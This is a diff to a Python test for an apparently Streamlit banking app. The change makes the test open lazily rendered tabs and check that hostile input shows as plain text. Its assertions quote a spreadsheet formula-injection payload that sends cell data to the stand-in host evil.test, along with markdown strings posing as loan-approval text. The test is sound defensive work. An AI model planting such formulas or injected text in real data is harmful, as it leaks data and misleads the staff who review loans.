@@ -250,6 +250,13 @@ def _inputs(facts):
     }
 
 
+# Pages whose tabs run only when open (st.tabs on_change="rerun"): url -> the tabs' state key.
+# Every tab is opened in turn, and the inputs above are filled in each tab that has them.
+LAZY_TABS = {"loan-review": "review_tab", "general-ledger": "ledger_tab",
+             "bank-operations": "ops_tab", "loan-products": "lp_tab",
+             "deposit-products": "dp_tab"}
+
+
 ROLES = ["manager", "teller", "customer", "pending_actor"]
 
 
@@ -261,22 +268,31 @@ def test_every_page_of_every_role_shows_hostile_text_as_text(hostile, role):
     offered = sorted(u for u in urls(at) if u)
     assert offered, role
     inputs = _inputs(facts)
-    shown = []
+    shown, opened = [], []
     for url in offered:
         goto(at, url)
         shown.append(_check_page(at, (role, url)))
-        for label, value in inputs.get(url, []):
-            boxes = [w for w in at.text_input if w.label == label]
-            if boxes:
-                boxes[0].input(value)
+        tabs = [t.label for t in at.tabs] if url in LAZY_TABS else [None]
+        for tab in tabs:
+            if tab is not None:
+                opened.append((url, tab))
+                at.session_state[LAZY_TABS[url]] = tab
                 at.run()
-                shown.append(_check_page(at, (role, url, label)))
+                shown.append(_check_page(at, (role, url, tab)))
+            for label, value in inputs.get(url, []):
+                boxes = [w for w in at.text_input if w.label == label]
+                if boxes:
+                    boxes[0].input(value)
+                    at.run()
+                    shown.append(_check_page(at, (role, url, tab, label)))
     everything = "\n".join(shown)
     # The payloads did reach the pages (the checks above looked at real hostile text).
     if role in ("manager", "teller"):
         assert "**Bo**" in everything or ":green[income verified]" in everything, role
     if role == "manager":
         assert "**income verified, approve at 0 %**" in everything  # the loan review
+        # The corrections tab's loan history, reached by opening the tab.
+        assert any(url == "loan-review" and tab == "Corrections" for url, tab in opened)
         assert '=HYPERLINK("http://evil.test/?"&H2' in everything    # a memo
     if role == "customer":
         assert "**Rejectz**" in everything  # the rejected loan's reason
